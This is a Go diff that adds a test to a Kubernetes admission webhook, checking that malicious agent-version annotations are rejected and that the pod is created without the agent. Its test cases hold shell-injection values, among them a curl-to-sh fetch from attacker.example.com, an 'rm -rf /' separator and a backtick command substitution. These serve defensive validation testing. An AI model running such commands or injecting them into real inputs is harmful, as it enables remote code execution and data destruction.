@@ -2,6 +2,7 @@ package webhooks
 
 import (
 	"encoding/json"
+	"fmt"
 	"io/ioutil"
 	"net/http"
 	"net/http/httptest"
@@ -10,6 +11,8 @@ import (
 
 	"github.com/stretchr/testify/assert"
 	admission "k8s.io/api/admission/v1beta1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/runtime"
 )
 
 func TestMutateHandlerErrors(t *testing.T) {
@@ -292,3 +295,67 @@ func TestMutateHandlerNotEnabled(t *testing.T) {
 
 	assert.True(t, admissionReview.Response.Allowed)
 }
+
+func TestMutateHandlerInvalidVersion(t *testing.T) {
+	mutateConfig := &MutateConfig{
+		SecretName: "test",
+	}
+	testServer := httptest.NewServer(http.HandlerFunc(mutateConfig.MutateHandler))
+	defer testServer.Close()
+
+	tt := []struct {
+		name       string
+		language   string
+		annotation string
+		version    string
+	}{
+		{name: "command substitution", language: "node", annotation: "contrast-agent-injector/version", version: "$(curl -s https://attacker.example.com | sh)"},
+		{name: "command separator", language: "python", annotation: "contrast-agent-injector/version", version: "5.3.0; rm -rf /"},
+		{name: "quote", language: "ruby", annotation: "contrast-agent-injector/version", version: `5.0.0" --source "https://attacker.example.com`},
+		{name: "url", language: "java", annotation: "contrast-agent-injector/version", version: "3.8.7&r=evil"},
+		{name: "container annotation", language: "node", annotation: "contrast-agent-injector/version.webgoat", version: "4.24.0`id`"},
+	}
+
+	for _, tc := range tt {
+		t.Run(tc.name, func(t *testing.T) {
+			annotations := map[string]string{
+				"contrast-agent-injector/enabled":  "true",
+				"contrast-agent-injector/language": tc.language,
+				"contrast-agent-injector/version":  "latest",
+				tc.annotation:                      tc.version,
+			}
+			pod := map[string]interface{}{
+				"metadata": map[string]interface{}{"name": "webgoat", "annotations": annotations},
+				"spec": map[string]interface{}{
+					"containers": []map[string]interface{}{{"name": "webgoat", "image": "webgoat/webgoat-8.0"}},
+				},
+			}
+			podJSON, err := json.Marshal(pod)
+			assert.NoError(t, err)
+			admissionReview, err := json.Marshal(admission.AdmissionReview{
+				TypeMeta: metav1.TypeMeta{Kind: "AdmissionReview", APIVersion: "admission.k8s.io/v1beta1"},
+				Request: &admission.AdmissionRequest{
+					UID:      "6fd1aaea-b081-49ff-9400-89795e8b7556",
+					Resource: podResource,
+					Object:   runtime.RawExtension{Raw: podJSON},
+				},
+			})
+			assert.NoError(t, err)
+
+			resp, err := http.Post(testServer.URL, jsonContentType, strings.NewReader(string(admissionReview)))
+			assert.NoError(t, err)
+			assert.Equal(t, http.StatusOK, resp.StatusCode)
+			bodyBytes, err := ioutil.ReadAll(resp.Body)
+			assert.NoError(t, err)
+
+			response := admission.AdmissionReview{}
+			assert.NoError(t, json.Unmarshal(bodyBytes, &response))
+			// The pod is created without the agent, the status explains why
+			assert.True(t, response.Response.Allowed)
+			assert.Empty(t, response.Response.Patch)
+			assert.Equal(t, fmt.Sprintf("contrast-agent-injector/version is invalid: %q is not a valid version, expected a version such as 3.8.7.21531, a range such as 3.x or latest", tc.version),
+				response.Response.Result.Message)
+			assert.Equal(t, []string{"The agent was not injected: " + response.Response.Result.Message}, response.Response.Warnings)
+		})
+	}
+}